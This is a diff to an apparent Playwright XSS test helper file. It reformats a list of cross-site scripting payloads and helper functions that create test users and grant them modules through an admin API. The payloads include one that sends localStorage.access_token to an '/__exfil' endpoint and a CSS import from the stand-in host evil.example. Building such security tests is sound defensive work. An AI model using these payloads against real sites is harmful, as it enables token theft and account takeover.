@@ -24,7 +24,7 @@ export const PAYLOADS = [
   ...SHORT_PAYLOADS,
   '<iframe srcdoc="<script>alert(10)</script>"></iframe>',
   "{{constructor.constructor('alert(11)')()}}",
-  "<img src=x onerror=\"fetch('/__exfil?'+localStorage.access_token)\">",
+  '<img src=x onerror="fetch(\'/__exfil?\'+localStorage.access_token)">',
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
   '<style>@import "//evil.example/x.css";</style>',
   '<object data="javascript:alert(15)"></object>',
@@ -57,17 +57,31 @@ export function watchForXss(page: Page): XssWatch {
 export const authHeaders = (token: string) => ({ authorization: `Bearer ${token}` });
 
 /** A fresh customer with the given modules (granted by the super admin through the API). */
-export async function freshUserWith(request: APIRequestContext, label: string, modules: string[], userType?: 'reseller'): Promise<FreshUser & { id: number }> {
+export async function freshUserWith(
+  request: APIRequestContext,
+  label: string,
+  modules: string[],
+  userType?: 'reseller',
+): Promise<FreshUser & { id: number }> {
   const user = await registerFreshUser(request, `xss-${label}`);
   const { id } = await api(request).get('/api/me', { headers: authHeaders(user.token) });
   const adminToken = await apiToken(request, 'admin');
-  const granted = await request.put(`/api/admin/users/${id}`, { headers: authHeaders(adminToken), data: { modules, ...(userType ? { user_type: userType } : {}) } });
+  const granted = await request.put(`/api/admin/users/${id}`, {
+    headers: authHeaders(adminToken),
+    data: { modules, ...(userType ? { user_type: userType } : {}) },
+  });
   expect(granted.status(), `grant ${modules.join(', ')}`).toBe(200);
   return { ...user, id };
 }
 
 /** POST/PUT through the API, expecting success. */
-export async function send(request: APIRequestContext, token: string, method: 'post' | 'put', url: string, data: unknown): Promise<Record<string, unknown>> {
+export async function send(
+  request: APIRequestContext,
+  token: string,
+  method: 'post' | 'put',
+  url: string,
+  data: unknown,
+): Promise<Record<string, unknown>> {
   const response = await request[method](url, { headers: authHeaders(token), data });
   expect(response.status(), `${method.toUpperCase()} ${url}: ${await response.text()}`).toBeLessThan(300);
   return (await response.json()) as Record<string, unknown>;
